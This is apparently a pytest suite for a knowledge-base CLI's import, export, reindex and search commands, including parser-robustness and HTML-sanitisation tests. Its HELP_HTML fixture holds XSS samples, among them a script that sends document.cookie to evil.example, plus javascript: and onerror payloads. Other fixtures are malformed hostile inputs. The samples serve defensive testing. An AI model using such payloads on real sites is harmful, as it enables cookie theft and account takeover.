"""``promptly kb import / export / reindex / search``: the parsers, the store's import rule
(idempotent, never over an editor's edit) and the commands on a temporary configuration.

Search uses the hashing embedder: these tests are about the commands, not ranking quality.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot import cli
from bot.console.article_content import make_content
from bot.console.articles import IMPORT_AUTHOR, ArticleStore
from bot.store.postgres import PostgresStore
from bot.store.sqlite import SQLiteStore
from knowledge_base import ArticleError, HashingEmbedder
from knowledge_base.importers import Parsed, parse_path, slug
from tests.unit.test_store import store  # noqa: F401  (the fixture: both backends)

SHIPPING_MD = """\
---
title: How long does shipping take?
language: en
tags: [shipping]
questions:
  - When will my parcel arrive?
---
Standard delivery takes 3-5 days.

## Express
Next day before noon.
"""
PLAYBOOK_MD = """\
---
id: refund-playbook
title: Refund playbook
audience: internal
language: de
---
Agents may refund up to 50 euros without approval.
"""
FAQ_CSV = """\
question,answer,title,tags
Do gift cards expire?,Gift cards never expire.,Gift card validity,payments; gift cards
"Can I pay
by invoice?","Yes, for business accounts.",,"payments,invoice"
What about returns?,,Returns,
"""
ARTICLES_JSONL = """\
{"id": "b77-00", "title": "Card arrival", "body": "In 3 days.", "questions": ["Where is my card?"]}

{"id": "b77-01", "title": "Card linking", "body": "Link it in the app."
[1, 2]
{"id": "b77-02", "title": "Top up", "questions": ["How do I top up?"]}
{"id": "b77-03", "title": "Exchange rates", "body": "We use the daily rate.", "tags": "fx;rates"}
"""
HELP_HTML = """\
<!doctype html>
<html><head><title>Gift cards &amp; vouchers</title>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<style>p { color: red }</style></head>
<body><h1>Gift cards &amp; vouchers</h1>
<p onclick="steal()">Gift cards <b>never</b> expire. See <a href="https://shop.example/gc">the
page</a> or <a href="javascript:alert(1)">this link</a>.</p>
<h2>Balance</h2><ul><li>Open the gift card page</li><li>Enter the code</li></ul>
<img src="x" onerror="alert(2)"><script>document.write("injected")</script>
</body></html>
"""


def write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def problems(parsed: Parsed) -> list[str]:
    return [str(problem) for problem in parsed.problems]


# -- parsing ---------------------------------------------------------------------------------


def test_markdown_folder_skips_a_bad_front_matter_and_names_the_file(tmp_path: Path) -> None:
    write(tmp_path, "shipping.md", SHIPPING_MD)
    write(tmp_path, "playbook.md", PLAYBOOK_MD)
    bad = write(tmp_path, "broken.md", "---\ntitle: [unclosed\n---\nBody\n")
    write(tmp_path, "notes.txt", "not an article")

    parsed = parse_path(tmp_path)

    assert [r.article.id for r in parsed.records] == ["refund-playbook", "shipping"]
    playbook = parsed.records[0].article
    assert (playbook.audience, playbook.language) == ("internal", "de")
    assert parsed.files_read == 3
    assert len(parsed.problems) == 1
    assert problems(parsed)[0].startswith(f"{bad}: invalid YAML front matter at line 2")


def test_csv_rows_become_articles_and_bad_rows_name_their_line(tmp_path: Path) -> None:
    path = write(tmp_path, "faq.csv", FAQ_CSV)

    parsed = parse_path(path)

    gift, invoice = (record.article for record in parsed.records)
    assert (gift.id, gift.title, gift.body) == (
        "gift-card-validity",
        "Gift card validity",
        "Gift cards never expire.",
    )
    assert (gift.questions, gift.tags) == (("Do gift cards expire?",), ("payments", "gift cards"))
    # No title: the question is the title (and the id's slug); the quoted cell spans 2 lines,
    # which a title, one line, joins.
    assert (invoice.id, invoice.title, invoice.questions) == (
        "can-i-pay-by-invoice",
        "Can I pay by invoice?",
        (),
    )
    assert invoice.tags == ("payments", "invoice")
    assert [str(r.location) for r in parsed.records] == [f"{path}:2", f"{path}:3"]
    assert problems(parsed) == [f"{path}:5: missing answer"]


def test_csv_needs_a_header_naming_question_and_answer(tmp_path: Path) -> None:
    path = write(tmp_path, "faq.csv", "Do gift cards expire?,Never.\n")

    parsed = parse_path(path)

    assert parsed.records == [] and parsed.files_read == 1
    assert problems(parsed)[0].startswith(f"{path}:1: the header row must name the columns")


def test_jsonl_reads_the_eval_format_and_names_bad_lines(tmp_path: Path) -> None:
    path = write(tmp_path, "articles.jsonl", ARTICLES_JSONL)

    parsed = parse_path(path)

    assert [r.article.id for r in parsed.records] == ["b77-00", "b77-03"]
    assert parsed.records[0].article.questions == ("Where is my card?",)
    assert parsed.records[1].article.tags == ("fx", "rates")
    reasons = problems(parsed)
    assert reasons[0].startswith(f"{path}:3: invalid JSON")
    assert reasons[1] == f"{path}:4: each line must be a JSON object, got list"
    assert reasons[2] == f"{path}:5: 'body' must be a string"


def test_jsonl_lines_too_deep_too_long_or_not_unicode_are_rejected_alone(
    tmp_path: Path,
) -> None:
    good = '{"id": "good", "title": "Fine", "body": "Still imported."}'
    lines = [
        "[" * 100_000 + "]" * 100_000,
        '{"id": "big", "title": "Big", "body": "b", "n": ' + "9" * 5000 + "}",
        '{"id": "lone", "title": "Lone \\ud800 half", "body": "b"}',
        '{"id": "note", "title": "Note", "body": "b", "source": ["x", {"\\udc00": 1}]}',
        '{"id": "pair", "title": "Emoji \\ud83d\\ude00", "body": "b"}',  # a pair is fine
        good,
    ]
    path = write(tmp_path, "hostile.jsonl", "\n".join(lines) + "\n")

    parsed = parse_path(path)

    assert [r.article.id for r in parsed.records] == ["pair", "good"]
    assert parsed.records[0].article.title == "Emoji \U0001f600"
    surrogate = "a string contains a lone surrogate (U+{}), which is not valid Unicode"
    assert problems(parsed) == [
        f"{path}:1: invalid JSON: nested too deeply",
        f"{path}:2: invalid JSON: a number longer than 4300 digits",
        f"{path}:3: {surrogate.format('D800')}",
        f"{path}:4: {surrogate.format('DC00')}",
    ]


def test_nul_and_lone_surrogates_are_rejected_for_their_record_only(tmp_path: Path) -> None:
    # A YAML escape makes a lone surrogate as a JSON one does; a NUL can be in any file.
    lone = write(tmp_path, "lone.md", '---\ntitle: "Lone \\ud800 half"\n---\nBody.\n')
    nul = write(tmp_path, "nul.md", "---\ntitle: NUL\n---\nBo\0dy.\n")
    faq = write(tmp_path, "faq.csv", "question,answer\nq1,a\0b\nq2,Fine.\n")
    write(tmp_path, "fine.md", "---\ntitle: Fine\n---\nBody.\n")

    parsed = parse_path(tmp_path)

    assert sorted(r.article.id for r in parsed.records) == ["fine", "q2"]
    assert sorted(problems(parsed)) == [
        f"{faq}:2: 'body' contains a NUL character",
        f"{lone}: 'title' contains a lone surrogate (U+D800), which is not valid Unicode",
        f"{nul}: 'body' contains a NUL character",
    ]


def test_a_csv_cell_over_the_size_limit_loses_its_row_only(tmp_path: Path) -> None:
    huge = "x" * 200_000
    path = write(
        tmp_path,
        "faq.csv",
        f'question,answer\nq1,{huge}\nq2,Two.\n"q3\nspans lines",Three.\nq4,"{huge}"\nq5,Five.\n',
    )

    parsed = parse_path(path)

    assert [(str(r.location), r.article.title) for r in parsed.records] == [
        (f"{path}:3", "q2"),
        (f"{path}:4", "q3 spans lines"),
        (f"{path}:7", "q5"),
    ]
    too_big = "unreadable CSV row: field larger than field limit (131072)"
    assert problems(parsed) == [f"{path}:2: {too_big}", f"{path}:6: {too_big}"]


def test_html_is_sanitised_and_written_as_markdown(tmp_path: Path) -> None:
    path = write(tmp_path, "gift-cards.html", HELP_HTML)

    (record,) = parse_path(path).records
    article = record.article

    assert (article.id, article.title) == ("gift-cards", "Gift cards & vouchers")
    assert article.body == (
        "Gift cards **never** expire. See [the page](https://shop.example/gc) or this link.\n\n"
        "## Balance\n\n- Open the gift card page\n- Enter the code"
    )
    for unsafe in ("script", "fetch", "cookie", "injected", "onclick", "onerror", "javascript"):
        assert unsafe not in article.body


def test_html_title_falls_back_to_the_first_heading(tmp_path: Path) -> None:
    write(tmp_path, "Returns Policy.htm", "<h1>Returns</h1><p>Thirty days.</p>")
    untitled = write(tmp_path, "untitled.html", "<p>No title anywhere.</p>")

    parsed = parse_path(tmp_path)

    (record,) = parsed.records
    assert (record.article.id, record.article.title, record.article.body) == (
        "returns-policy",
        "Returns",
        "Thirty days.",
    )
    assert problems(parsed) == [f"{untitled}: no <title> or <h1> to take the title from"]


def test_an_id_seen_twice_keeps_the_first(tmp_path: Path) -> None:
    write(tmp_path, "a.md", "---\nid: shipping\ntitle: A\n---\nFirst.\n")
    second = write(tmp_path, "b.md", "---\nid: shipping\ntitle: B\n---\nSecond.\n")

    parsed = parse_path(tmp_path)

    assert [r.article.title for r in parsed.records] == ["A"]
    assert problems(parsed) == [f"{second}: duplicate id 'shipping' (first at {tmp_path / 'a.md'})"]


def test_missing_paths_and_unknown_files_are_errors(tmp_path: Path) -> None:
    with pytest.raises(ArticleError, match="no such file"):
        parse_path(tmp_path / "nope")
    with pytest.raises(ArticleError, match="unknown kind of file"):
        parse_path(write(tmp_path, "notes.txt", "hello"))


def test_slugs_are_path_safe_ids() -> None:
    assert slug("Where's my order?") == "where-s-my-order"
    assert slug("Café opening hours") == "cafe-opening-hours"
    assert slug("配送") == slug("配送") and slug("配送").startswith("article-")


# -- the store's import rule -----------------------------------------------------------------


@pytest.fixture
def articles(store: SQLiteStore | PostgresStore) -> ArticleStore:  # noqa: F811
    return ArticleStore(store)


async def test_reimport_is_idempotent_and_a_changed_file_is_a_new_version(
    articles: ArticleStore, tmp_path: Path
) -> None:
    folder = tmp_path / "kb"
    write(folder, "shipping.md", SHIPPING_MD)
    write(folder, "faq.csv", FAQ_CSV)

    first = await articles.import_records(parse_path(folder).records)
    again = await articles.import_records(parse_path(folder).records)

    assert sorted(first.added) == ["can-i-pay-by-invoice", "gift-card-validity", "shipping"]
    assert (again.added, again.updated, again.unchanged, again.rejected) == ([], [], 3, [])
    assert {a.version for a in await articles.find()} == {1}

    write(folder, "shipping.md", SHIPPING_MD.replace("3-5 days", "2-4 days"))
    changed = await articles.import_records(parse_path(folder).records)

    assert (changed.updated, changed.unchanged) == (["shipping"], 2)
    head = await articles.get("shipping")
    assert (head.version, head.status, head.updated_by) == (2, "published", IMPORT_AUTHOR)
    assert "2-4 days" in head.content.body
    assert [v.author for v in await articles.versions("shipping")] == [IMPORT_AUTHOR] * 2


async def test_an_article_edited_in_the_console_is_reported_not_overwritten(
    articles: ArticleStore, tmp_path: Path
) -> None:
    path = write(tmp_path, "shipping.md", SHIPPING_MD)
    await articles.import_records(parse_path(path).records)
    edited = make_content(title="How long does shipping take?", body="Usually 2 days.")
    await articles.publish("shipping", version=1, author="erin", content=edited)
    # An article made in the console is the editors' too.
    await articles.create("returns", make_content(title="Returns", body="30 days."), "erin")

    # The unchanged file: nothing to do, erin's edit stands.
    same = await articles.import_records(parse_path(path).records)
    assert (same.unchanged, same.rejected) == (1, [])

    write(tmp_path, "shipping.md", SHIPPING_MD.replace("3-5 days", "4 days"))
    write(tmp_path, "returns.md", "---\ntitle: Returns\n---\n60 days.\n")
    report = await articles.import_records(parse_path(tmp_path).records)

    assert (report.added, report.updated, report.unchanged) == ([], [], 0)
    reasons = {r.source: r.reason for r in report.rejected}
    assert reasons[str(path)].startswith("conflict: 'shipping' was changed in the console")
    assert "by erin" in reasons[str(path)]
    assert "was created in the console" in reasons[str(tmp_path / "returns.md")]
    assert (await articles.get("shipping")).content == edited
    assert (await articles.get("returns")).content.body == "30 days."

    forced = await articles.import_records(parse_path(path).records, overwrite=True)
    assert forced.updated == ["shipping"]
    assert "4 days" in (await articles.get("shipping")).content.body


async def test_content_the_editor_would_refuse_is_rejected_alone(
    articles: ArticleStore, tmp_path: Path
) -> None:
    long_title = "x" * 201
    path = write(
        tmp_path,
        "a.jsonl",
        json.dumps({"id": "long", "title": long_title, "body": "b"})
        + "\n"
        + json.dumps({"id": "ok", "title": "Fine", "body": "b"})
        + "\n",
    )
    counted: list[int] = []

    report = await articles.import_records(parse_path(path).records, progress=counted.append)

    assert report.added == ["ok"]
    assert [str(r) for r in report.rejected] == [f"{path}:1: a title is 1–200 characters"]
    assert sum(counted) == 2  # the progress bar sees every record, rejected ones too


# -- the commands ----------------------------------------------------------------------------


def config(tmp_path: Path, name: str = "promptly") -> Path:
    path = tmp_path / f"{name}.toml"
    path.write_text(
        f'[storage]\ndatabase = "{tmp_path / (name + ".db")}"\n'
        f'[kb]\nindex_dir = "{tmp_path / (name + "-index")}"\n',
        encoding="utf-8",
    )
    return path


def promptly(conf: Path, *args: str) -> int:
    return cli.main(["--config", str(conf), "kb", *args])


def test_import_command_summarises_and_exits_1_on_rejections(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    conf = config(tmp_path)
    data = tmp_path / "data"
    write(data, "shipping.md", SHIPPING_MD)
    write(data, "faq.csv", FAQ_CSV)
    write(data, "help.html", HELP_HTML)

    assert promptly(conf, "import", str(data)) == 1
    out = capsys.readouterr().out
    assert "added 4, updated 0, unchanged 0, rejected 1" in out
    assert f"rejected {data / 'faq.csv'}:5: missing answer" in out

    assert promptly(conf, "import", str(data / "shipping.md")) == 0
    assert "added 0, updated 0, unchanged 1, rejected 0" in capsys.readouterr().out

    assert promptly(conf, "import", str(tmp_path / "missing")) == 2
    assert "no such file or folder" in capsys.readouterr().err
    binary = tmp_path / "binary.csv"
    binary.write_bytes(b"\xff\xfe\x00question")
    assert promptly(conf, "import", str(binary)) == 2
    assert "nothing could be read" in capsys.readouterr().err


def test_import_command_keeps_the_good_lines_of_a_hostile_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [
        '{"id": "lone", "title": "Lone \\ud800 half", "body": "b"}',
        "[" * 100_000 + "]" * 100_000,
        '{"id": "after", "title": "After", "body": "Still imported."}',
    ]
    path = write(tmp_path, "hostile.jsonl", "\n".join(lines) + "\n")

    assert promptly(config(tmp_path), "import", str(path)) == 1

    out = capsys.readouterr().out
    assert "added 1, updated 0, unchanged 0, rejected 2" in out
    assert f"rejected {path}:1: a string contains a lone surrogate (U+D800)" in out
    assert f"rejected {path}:2: invalid JSON: nested too deeply" in out


def test_import_help_states_the_exit_status(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        cli.main(["kb", "import", "--help"])
    assert "1 when any file, row or\narticle was rejected" in capsys.readouterr().out


def test_export_then_import_round_trips(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source, copy, via_jsonl = (config(tmp_path, n) for n in ("source", "copy", "jsonl"))
    data = tmp_path / "data"
    write(data, "shipping.md", SHIPPING_MD)
    write(data, "playbook.md", PLAYBOOK_MD)
    write(data, "articles.jsonl", ARTICLES_JSONL.split("\n", 1)[0] + "\n")
    write(data, "help.html", HELP_HTML)
    assert promptly(source, "import", str(data)) == 0
    capsys.readouterr()

    assert promptly(source, "export") == 0
    exported = capsys.readouterr().out
    rows = [json.loads(line) for line in exported.splitlines()]
    assert [row["id"] for row in rows] == ["b77-00", "help", "refund-playbook", "shipping"]
    assert rows[2] | {"body": ""} == {
        "id": "refund-playbook",
        "title": "Refund playbook",
        "language": "de",
        "audience": "internal",
        "tags": [],
        "questions": [],
        "body": "",
    }

    folder = tmp_path / "exported"
    assert promptly(source, "export", "--format", "markdown", "--out", str(folder)) == 0
    assert sorted(p.name for p in folder.iterdir()) == [f"{row['id']}.md" for row in rows]
    assert promptly(copy, "import", str(folder)) == 0
    jsonl = tmp_path / "exported.jsonl"
    assert promptly(source, "export", "--out", str(jsonl)) == 0
    assert promptly(via_jsonl, "import", str(jsonl)) == 0
    capsys.readouterr()

    # Both copies export exactly what the source did.
    for other in (copy, via_jsonl):
        assert promptly(other, "export") == 0
        assert capsys.readouterr().out == exported
    # And the exported files, read back into the source, change nothing there.
    assert promptly(source, "import", str(folder)) == 0
    assert "added 0, updated 0, unchanged 4, rejected 0" in capsys.readouterr().out


def test_markdown_export_needs_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert promptly(config(tmp_path), "export", "--format", "markdown") == 2
    assert "--out" in capsys.readouterr().err


def test_reindex_and_search(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli, "_embedder", lambda settings: HashingEmbedder(256))
    conf = config(tmp_path)
    data = tmp_path / "data"
    write(data, "shipping.md", SHIPPING_MD)
    write(data, "playbook.md", PLAYBOOK_MD)
    assert promptly(conf, "import", str(data)) == 0

    assert promptly(conf, "reindex") == 0
    assert "indexed 2 articles" in capsys.readouterr().out
    assert any((tmp_path / "promptly-index").iterdir())

    assert promptly(conf, "search", "When will my parcel arrive?", "-k", "5") == 0
    lines = capsys.readouterr().out.splitlines()
    score, title, url = lines[0].split("  ")
    assert float(score) > 0.5
    assert (title, url) == ("How long does shipping take?", "/kb/shipping")
    assert lines[1].strip().startswith("Standard delivery takes 3-5 days.")
    assert "Refund playbook" not in "\n".join(lines)  # agents-only unless --internal

    assert promptly(conf, "search", "refund up to 50 euros approval", "--internal") == 0
    assert "Refund playbook" in capsys.readouterr().out
